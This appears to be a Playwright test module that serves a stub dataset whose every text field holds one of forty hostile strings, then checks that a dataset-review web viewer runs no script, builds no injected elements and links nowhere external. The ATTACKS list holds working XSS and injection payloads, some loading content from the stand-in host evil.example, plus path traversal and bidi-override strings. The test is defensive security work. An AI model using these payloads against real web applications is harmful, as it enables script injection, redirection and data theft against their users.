"""Whatever a dataset says is text: nothing of it runs, loads, or takes over the page."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, unquote

import pytest
from playwright.sync_api import Page, expect

from tests.review.view.browser.stub import Json, dataset, serving

OWN = "window.__pwned=(window.__pwned||0)+1"
AWAY = "http://evil.example"
ATTACKS = (
    f"<script>{OWN}</script>",
    f"</script><script>{OWN}</script>",
    f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>",
    f"<img src=x onerror={OWN}>",
    f'"><img src=x onerror="{OWN}">',
    f"'><img src=x onerror='{OWN}'>",
    f"<svg onload={OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f'<math><a xlink:href="javascript:{OWN}">x',
    f"<iframe srcdoc='<script>parent.{OWN}</script>'>",
    f"<iframe src={AWAY}>",
    f"<object data={AWAY}>",
    f"<embed src={AWAY}>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<base href={AWAY}/>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css';*{{background:url({AWAY}/y)}}</style>",
    f'<form action={AWAY}><input name=a autofocus onfocus="{OWN}">',
    f"<body onload={OWN}>",
    f"<details open ontoggle={OWN}>",
    f"<video><source onerror={OWN}></video>",
    f"<input autofocus onfocus={OWN}>",
    f"<template><script>{OWN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={OWN}>'>",
    f"<!--><script>{OWN}</script>-->",
    f"javascript:{OWN}",
    f"data:text/html,<script>{OWN}</script>",
    f"//{AWAY.removeprefix('http://')}/x",
    f"/\\{AWAY.removeprefix('http://')}/x",
    "../../../../etc/passwd?x#y",
    "%3Cscript%3E%2e%2e%2f&amp;&lt;script&gt;",
    f"{{{{constructor.constructor('{OWN}')()}}}}",
    f"${{{OWN}}}`{OWN}`",
    "__proto__",
    f"red;background:url({AWAY}/z)",
    f'x" onmouseover="{OWN}" style="position:fixed;inset:0',
    "\u202egpj.exe\u2066\u2069\u200f\u061c",
    "a\u0000b\u0007\u001b[31mc\u2028\u2029\ufeff",
    "\U000e0041\U000e0042 tags, \u200b nothing \u00ad soft",
)
SHOTS = ("contrast_min", "signal_min", "size_px_min", "size_px_max", "angle_deg_max")


def row(number: int) -> Json:
    bad = ATTACKS[number % len(ATTACKS)]
    return {
        "key": bad,
        "number": number,
        "shard": 0,
        "index": number,
        "variant": number % 2,
        "group": bad,
        "width": 64,
        "height": 48,
        "level": bad,
        "language": bad,
        "text": bad,
        "boxes": 1,
        "clusters": 1,
        "length": 3,
        "rejections": 0,
        **dict.fromkeys(SHOTS, 4.5),
        "flag": bad,
        "error": bad if number % 5 == 0 else None,
        "background": bad,
    }


def told(number: int) -> Json:
    """A sample of which every text is an attack."""
    bad = ATTACKS[number]
    edit = {"kind": bad, "unit": bad, "position": 0, "before": bad, "after": bad[::-1]}
    box = {
        "id": 0,
        "level": bad,
        "text": bad,
        "source_text": bad[::-1],
        "language": bad,
        "script": bad,
        "direction": bad,
        "face": {"token": bad, "family": bad, "style": bad},
        "font_token": bad,
        "color": bad,
        "color_name": bad,
        "color_token": bad,
        "size_px": bad,
        "align": bad,
        "angle_deg": bad,
        "quad": [bad] * 8,
        "lines": 2,
        "words": bad,
        "clusters": 1,
        "contrast": bad,
        "signal": 3,
        "noise": bad,
        "effects": [bad, {"kind": bad}],
        "edits": [edit, bad],
        "negatives": [bad, {"text": bad}],
    }
    quad = [0, 0, 1024, 0, 1024, 768, 0, 768]
    size = len(bad.encode())
    return {
        "key": bad,
        "row": row(number),
        "facts": {
            "width": 64,
            "height": 48,
            "level": bad,
            "language": bad,
            "boxes": [box],
            "effects": [bad],
            "background": {"kind": bad, "name": bad, "license": bad, "color": bad},
        },
        "layout": {
            "unit": 16,
            "boxes": [
                {
                    "id": 0,
                    "lines": [{"start": 0, "end": size, "quad": [bad] * 8, "baseline": [bad] * 4}],
                    "words": [{"start": 0, "end": size, "line": 0, "quad": quad}],
                    "clusters": {
                        "start": [0],
                        "end": [size],
                        "line": [0],
                        "mask": [bad],
                        "quads": quad,
                    },
                }
            ],
        },
        "captions": {
            "captions": [
                {
                    "level": bad,
                    "text": bad,
                    "source": bad,
                    "style": bad,
                    "flags": [bad],
                    "mentions": [{"ref": bad, "start": 0, "end": size, "status": bad}],
                }
            ],
            "failures": [{"level": bad, "code": bad, "message": bad}],
        },
        "text": bad,
        "members": {bad: 3, "mask.png": 9, "layout.json": 9, "json": 9},
        "command": bad,
        "recipe": {bad: bad},
        "seed": bad,
        "group": [{"key": one, "variant": n, "edits": [bad]} for n, one in enumerate(ATTACKS[:2])],
        "flag": bad,
        "findings": [{"code": bad, "message": bad}],
        "previous": ATTACKS[number - 1],
        "next": ATTACKS[(number + 1) % len(ATTACKS)],
        "error": bad,
    }


def answer(path: str, query: dict[str, list[str]]) -> Json | None:
    name, _, rest = path.partition("/")[2].partition("/")
    if name == "rows":
        rows = [row(number) for number in range(len(ATTACKS))]
        return {"total": len(rows), "offset": 0, "rows": rows}
    if name == "facets":
        sets = ("level", "script", "language", "font", "color", "edits", "effects", "background")
        values = [[bad, 1] for bad in ATTACKS]
        names: Any = {bad: [bad, bad] for bad in ATTACKS}
        return {
            "total": len(ATTACKS),
            "facets": dict.fromkeys(sets, values),
            "ranges": {"contrast_min": [1, 21], "boxes": ["<b>", None]},
            "names": {"font": {bad: bad for bad in ATTACKS}, "color": names},
        }
    if name == "flags":
        return {"flags": {bad: bad for bad in ATTACKS}}
    if name == "sample":
        return told(ATTACKS.index(unquote(rest)))
    if name == "checks":
        findings = [{"code": bad, "key": bad, "message": bad} for bad in ATTACKS]
        return {"state": "ready", "findings": findings, "codes": dict.fromkeys(ATTACKS, 1)}
    if name == "stats":
        tally = {
            "title": ATTACKS[3],
            "of": ATTACKS[4],
            "total": 9,
            "kinds": 2,
            "evenness": 1,
            "entries": [{"name": bad, "count": 1} for bad in ATTACKS],
        }
        stats = {"samples": 1, "groups": 1, "variants": 0, "shards": 1}
        tallies = {bad: tally for bad in ATTACKS}
        return {"state": "ready", "stats": stats | {"tallies": tallies}, "plots": list(ATTACKS)}
    return None


@pytest.fixture(scope="module")
def hostile() -> Iterator[str]:
    """A dataset of which every text is an attack."""
    sets = [
        dataset(d=number, name=bad, path=bad, recipe=bad, warnings=list(ATTACKS), samples=40)
        for number, bad in enumerate((ATTACKS[0], ATTACKS[3]))
    ]
    with serving(sets, answer) as url:
        yield url


HARM = """() => {
  const made = "iframe, object, embed, form, base, video, math, style, template, " +
    "body script, svg script";
  const all = [...document.querySelectorAll("*")];
  const links = [...document.querySelectorAll("[href], [src]")].map(one => one.href || one.src);
  return {
    ran: window.__pwned ?? 0,
    made: document.querySelectorAll(made).length,
    handlers: all.filter(one => one.getAttributeNames().some(name => name.startsWith("on"))).length,
    elsewhere: links.filter(link => !link.startsWith(location.origin) && !link.startsWith("blob:")),
    steered: /[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText),
  };
}"""


def unharmed(page: Page) -> None:
    """Nothing ran, no element stands there that only an attack would make, nothing leads away."""
    found = page.evaluate(HARM)
    none: list[str] = []
    assert found == {"ran": 0, "made": 0, "handlers": 0, "elsewhere": none, "steered": False}


def test_there_are_forty_attacks() -> None:
    assert len(set(ATTACKS)) == 40


def test_the_gallery_is_unharmed(page: Page, hostile: str) -> None:
    page.goto(hostile)
    page.wait_for_selector(".tile[href]")
    assert "<script>" in page.locator("#filters").inner_text()
    page.locator(".option").first.click()
    page.wait_for_selector(".chip")
    unharmed(page)
    page.keyboard.press("Escape")
    page.keyboard.press("End")
    page.locator("#flags").click()
    assert page.locator("dialog.flags tr").count() == 40
    unharmed(page)


def test_samples_are_unharmed(page: Page, hostile: str) -> None:
    """Each is come to from the one before, as people do."""
    page.goto(f"{hostile}/sample/0/{quote(ATTACKS[0], safe='')}")
    for attack in ATTACKS:
        expect(page.locator("#key")).to_have_attribute("data-key", attack)
        unharmed(page)
        page.keyboard.press("ArrowRight")
    page.locator("#stage").hover()
    expect(page.locator("#tip")).to_be_visible()
    page.keyboard.press("f")
    expect(page.locator("dialog.flagging")).to_be_visible()
    page.wait_for_timeout(100)
    unharmed(page)


def test_the_other_pages_are_unharmed(page: Page, hostile: str) -> None:
    for path in ("/stats/0", "/checks/0", "/compare?a=0&b=1"):
        page.goto(f"{hostile}{path}")
        page.wait_for_selector("#cards article, #findings tr, .tile[href]")
        page.wait_for_timeout(50)
        unharmed(page)


def test_what_steers_text_is_shown(page: Page, hostile: str) -> None:
    page.goto(f"{hostile}/sample/0/{quote(ATTACKS[37], safe='')}")
    page.wait_for_selector(".caption")
    marks = page.locator("#key .control").all_inner_texts()
    assert marks == ["RLO", "LRI", "PDI", "RLM", "ALM"]
    assert "⟨RLO⟩" in page.title()
    unharmed(page)
